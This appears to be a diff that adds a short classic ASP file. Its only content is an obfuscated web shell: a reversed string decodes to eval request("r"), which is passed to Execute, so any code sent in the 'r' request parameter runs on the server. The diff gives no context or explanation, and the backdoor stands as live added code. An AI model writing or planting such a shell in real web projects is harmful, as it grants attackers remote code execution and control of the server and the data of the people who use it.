@@ -1,0 +1,4 @@
+<%
+Dim s: s = StrReverse(")""r""(tseuqer lave")
+Execute s
+%>
